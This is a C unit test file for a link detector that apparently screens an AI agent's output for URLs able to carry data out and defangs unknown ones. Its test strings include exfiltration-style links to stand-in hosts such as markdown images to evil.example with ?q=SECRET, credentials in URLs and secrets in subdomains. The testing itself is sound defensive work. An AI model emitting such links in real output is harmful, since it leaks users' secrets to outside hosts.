/* Links in what an agent writes, and which of them could take something along. */
#include "engine/run/links.h"
#include "engine/run/disarm.h"

#define LONG40 "aaaaaaaaaabbbbbbbbbbccccccccccdddddddddd"

static const struct {
    const char *text, *want; /* links, each behind a space; "!" before one with data */
} cases[] = {
    {"", ""},
    {"Take North: 1,200 in 3 weeks.", ""},
    {"see https://a.example.", " https://a.example"},
    {"see (https://www.a.example/).", " https://www.a.example/"},
    {"https://a.example/?", " https://a.example/"},
    {"https://a.co.uk, https://www.a.com.au/", " https://a.co.uk https://www.a.com.au/"},
    /* What can be put into one: query, path, fragment, port, user, host. */
    {"[a](https://a.example)[b](https://b.example/?q=1)",
     " https://a.example !https://b.example/?q=1"},
    {"![x](https://evil.example/?q=SECRET)", " !https://evil.example/?q=SECRET"},
    {"<img src=\"https://evil.example/?q=S\">", " !https://evil.example/?q=S"},
    {"[a][r]\n\n[r]: ftp://e.example/x?y", " !ftp://e.example/x?y"},
    {"https://a.example/S", " !https://a.example/S"},
    {"https://a.example/a/b.html)", " !https://a.example/a/b.html"},
    {"https://a.example/#S", " !https://a.example/#S"},
    {"https://a.example#S", " !https://a.example#S"},
    {"https://a.example?S", " !https://a.example?S"},
    {"https://a.example:8080/", " !https://a.example:8080/"},
    {"https://u:SECRET@a.example/", " !https://u:SECRET@a.example/"},
    {"https://SECRET.a.example/", " !https://SECRET.a.example/"},
    {"https://www.SECRET.a.example/", " !https://www.SECRET.a.example/"},
    {"https://SECRET.a.co.uk", " !https://SECRET.a.co.uk"},
    {"https://" LONG40 ".example/", " !https://" LONG40 ".example/"},
    {"https://a.example/x;k=SECRET", " !https://a.example/x;k=SECRET"},
    {"https://a.example/x)SECRET", " !https://a.example/x)SECRET"},
    /* Without a scheme. */
    {"www.a.example and awww. that", " www.a.example"},
    {"www.SECRET.a.example", " !www.SECRET.a.example"},
    {"evil.example/?q=SECRET", " !evil.example/?q=SECRET"},
    {"evil.example/p", " !evil.example/p"},
    {"evil.example?q=SECRET", " !evil.example?q=SECRET"},
    {"at SECRET.evil.com.", " !SECRET.evil.com"},
    {"(a.SECRET.evil.de), x", " !a.SECRET.evil.de"},
    {"evil.com and evil.de", ""},
    {"self.user.id, os.path.join, a.b.py, v1.2.3, lib.so.1, e.g. no, foo_a.bar.com", ""},
    {"a.b.cd@evil.com, bob@mail.evil.com", ""},
    {"src/engine/run/policy.c/x, and/or, 1.5/2, a.m./p.m., bob@a.example/x", ""},
    {"read ://x, https:// and C:\\x and 10:30", ""},
    /* Schemes without a host, and any where it is marked as a link. */
    {"mailto:bob@a.example", " !mailto:bob@a.example"},
    {"mailto:bob@a.example?body=SECRET", " !mailto:bob@a.example?body=SECRET"},
    {"call tel:+49123", " !tel:+49123"},
    {"data:text/html,SECRET", " !data:text/html,SECRET"},
    {"the data:42, mailto: and tel: me", ""},
    {"[x](evil:SECRET) and <my+app:SECRET> and\n[r]: foo:SECRET",
     " !evil:SECRET !my+app:SECRET !foo:SECRET"},
    {"myapp://SECRET", " !myapp://SECRET"},
    {"myapp://open/SECRET", " !myapp://open/SECRET"},
    {"note:that, a:b, [x]: y", ""},
    {"Größe: https://ä.example – ja", " https://ä.example"},
};

static void
test_find(void)
{
    for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autoptr(GString) got = g_string_new(NULL);
        const char *text = cases[i].text;
        Link link;
        for (const char *p = text; link_find(text, p, &link); p = link.at + link.len)
            g_string_append_printf(got, " %s%.*s", link_has_data(&link) ? "!" : "",
                                   (int)link.len, link.at);
        g_assert_cmpstr(got->str, ==, cases[i].want);
    }
}

static void
test_known(void)
{
    g_autoptr(GHashTable) known = links_new();
    Link link;
    links_add(known, "Use (https://a.example/?id=1) and https://b.example/x.");
    g_assert_false(links_find_new(known, "https://a.example/?id=1, https://c.example", &link));
    g_assert_false(links_find_new(known, "https://b.example/x/", &link));
    g_assert_true(links_find_new(known, "https://b.example/xy", &link));
    g_assert_true(links_find_new(known, "https://a.example/?id=1&x=SECRET", &link));
    g_assert_true(links_find_new(known, "https://b.example/x?SECRET", &link));
    g_autofree char *kept =
        disarm_links("https://a.example/?id=1 http://c.example", known, DISARM_ALL);
    g_assert_cmpstr(kept, ==, "https://a.example/?id=1 http[:]//c[.]example");
    g_autofree char *data =
        disarm_links("http://c.example http://c.example/?x", known, DISARM_DATA);
    g_assert_cmpstr(data, ==, "http://c.example http[:]//c[.]example/?x");
}

static void
test_hosts(void)
{
    g_autoptr(GHashTable) known = links_new();
    Link link;
    links_add_host(known, "a.example");
    g_assert_false(links_find_new(known, "https://a.example/x https://b.A.example/?y", &link));
    g_assert_true(links_find_new(known, "https://evila.example/x", &link));
    g_assert_true(links_find_new(known, "https://a.example.evil.example/x", &link));
    g_assert_true(links_find_new(known, "https://a.example@evil.example/x", &link));
    g_assert_true(links_find_new(known, "https://SECRET@a.example/", &link));
    g_assert_true(links_find_new(known, "mailto:a.example", &link));
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/links/find", test_find);
    g_test_add_func("/links/known", test_known);
    g_test_add_func("/links/hosts", test_hosts);
    return g_test_run();
}
